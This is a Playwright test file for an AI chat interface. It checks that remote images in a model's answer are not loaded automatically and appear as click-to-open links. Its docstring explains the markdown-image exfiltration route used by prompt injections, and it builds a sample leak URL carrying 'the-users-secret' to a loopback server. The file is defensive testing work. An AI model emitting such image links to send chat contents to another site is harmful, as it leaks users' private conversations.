"""A model's answer cannot make the browser fetch a picture from another site: the picture's
URL could carry the chat to that site (a prompt injection's way out). It shows as a link
naming the host, which opens in a new tab only when the reader clicks it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect

from .conftest import last_answer, register_in_browser, send

# A 1x1 PNG: an inline picture, which does show.
PIXEL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


@pytest.fixture
def other_site() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """Another site on loopback (another port is another origin): its base URL, and what it
    was asked (path and Referer)."""
    hits: list[dict[str, Any]] = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append({"path": self.path, "referer": self.headers.get("Referer")})
            body = b"not a picture"
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_a_remote_image_in_an_answer_is_not_loaded_but_offered_as_a_link(
    page: Page, other_site: tuple[str, list[dict[str, Any]]]
) -> None:
    origin, hits = other_site
    leak = f"{origin}/leak.png?chat=the-users-secret"
    requested: list[str] = []

    def record(request: Request) -> None:
        requested.append(request.url)

    page.context.on("request", record)
    register_in_browser(page)
    send(page, f"[echo] Here is your chart: ![the chart]({leak}) and a dot: ![a dot]({PIXEL})")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-status", "done")

    placeholder = answer.get_by_test_id("remote-image")
    expect(placeholder).to_contain_text("the chart")
    expect(placeholder).to_contain_text(origin.removeprefix("http://"))
    expect(placeholder).to_have_attribute("href", leak)
    expect(placeholder).to_have_attribute("target", "_blank")
    expect(placeholder).to_have_attribute("rel", "noopener noreferrer")
    # The inline picture shows; no element points at the other site.
    dot = answer.locator("img")
    expect(dot).to_have_count(1)
    expect(dot).to_have_attribute("alt", "a dot")
    page.wait_for_function("() => document.querySelector('[data-role=assistant] img').naturalWidth === 1")
    assert page.locator(f'[src^="{origin}"]').count() == 0
    # Nothing asked the other site for anything (and the autouse `csp_violations` fixture
    # proves the page did not even try: an attempt would be a refused img-src).
    assert [url for url in requested if url.startswith(origin)] == []
    assert hits == []

    # The reader's click opens it in a new tab, which tells the site nothing of the chat.
    with page.context.expect_page() as opened:
        placeholder.click()
    tab = opened.value
    tab.wait_for_load_state()
    assert tab.url == leak
    # (The tab then asks for the site's /favicon.ico, as any tab does.)
    assert hits[0] == {"path": "/leak.png?chat=the-users-secret", "referer": None}
    assert tab.evaluate("() => window.opener") is None
    tab.close()
